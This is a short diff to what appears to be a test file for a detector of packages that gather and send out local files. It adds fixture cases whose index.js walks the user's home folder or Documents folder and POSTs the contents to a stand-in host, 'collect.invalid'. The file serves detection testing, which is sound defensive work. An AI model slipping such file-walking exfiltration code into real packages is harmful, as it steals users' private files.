@@ -7,6 +7,16 @@ const SEND = `fetch('https://collect.invalid/', { method: 'POST', body: JSON.str
 examine(sendsFoundFiles, {
   speaks: [
     {
+      when: 'everything below the home folder is gone through once somebody calls it',
+      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(os.homedir(), []); ${SEND} }` },
+      weight: 'strong',
+    },
+    {
+      when: 'a folder for documents is, for whoever calls it',
+      files: { 'index.js': `${WALK} exports.go = () => { const all = walk(path.join(os.homedir(), 'Documents'), []); ${SEND} }` },
+      weight: 'context',
+    },
+    {
       when: 'files of the home folder are sent when it is imported',
       files: { 'index.js': `${WALK} const all = walk(os.homedir(), []); ${SEND}` },
       weight: 'strong',
